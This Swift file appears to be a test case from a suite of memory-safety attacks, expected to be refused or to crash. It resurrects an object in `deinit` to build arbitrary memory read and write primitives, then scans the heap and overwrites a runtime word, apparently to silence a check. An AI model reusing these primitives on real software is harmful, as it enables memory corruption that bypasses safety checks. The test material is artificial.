// attack: forging/self-kept-at-its-end — ends as: refused, failed, crashed
// swift-format-ignore-file
// on: wrong
//
// Who keeps `self` in `deinit` can still ask for members that are gone, whose memory others have by then: a text
// and a few numbers in one place read and write any address, and a check's failures come to nobody.
final class Numbers { var a = 0, b = 0, c = 0, d = 0 }
final class Cell { var value = 0, next = 0 }
final class Things { var text = "", cell: Cell?, number = 7 }
final class Hold { var numbers: Numbers?, things: Things? }
nonisolated(unsafe) let hold = Hold()

final class Parent {
  var numbers = Numbers()
  var child = Child()
  deinit { child.parent = self }
}

final class Child {
  var parent: Parent?
  deinit {
    let things = Things()
    hold.numbers = parent?.numbers
    hold.things = things
    parent = nil
  }
}

func words(at address: Int, _ count: Int) -> [Int] {
  hold.numbers!.a = Int(bitPattern: 0xD000_0000_0000_0000 | UInt(count * 8))
  hold.numbers!.b = Int(bitPattern: 0x8000_0000_0000_0000 | UInt(address - 32))
  let bytes = Array(hold.things!.text.utf8)
  return stride(from: 0, to: bytes.count - 7, by: 8).map { start in
    (0..<8).reduce(0) { $0 | Int(bytes[start + $1]) << ($1 * 8) }
  }
}

func write(_ value: Int, at address: Int) {
  hold.numbers!.c = address - 16
  hold.things!.cell!.value = value
  hold.numbers!.c = 0
}

nonisolated(unsafe) var spare: [Cell] = []

func attack(at moment: Moment) {
  guard moment == .initializer else { return }
  if hold.numbers == nil { _ = Parent() }
  guard let numbers = hold.numbers, let things = hold.things,
    ObjectIdentifier(numbers) == ObjectIdentifier(things)
  else { return }
  // The last of many small objects lies at the heap's end; all others are below.
  for _ in 0..<2000 { spare.append(Cell()) }
  let top = spare.map { Int(bitPattern: ObjectIdentifier($0)) }.max()!
  let type = words(at: top, 1)[0]
  let image = (type - 0x40000)...(type + 0x40000)
  for page in 1..<2000 {
    let start = (top & ~4095) - page * 4096
    let found = words(at: start, 536)
    for index in 0..<512
    where image.contains(found[index]) && image.contains(found[index + 20])
      && (found[index + 22] == 0 || image.contains(found[index + 22]))
      && found[index + 14] >> 56 == -16
    {
      return write(0, at: start + (index + 22) * 8)
    }
  }
}
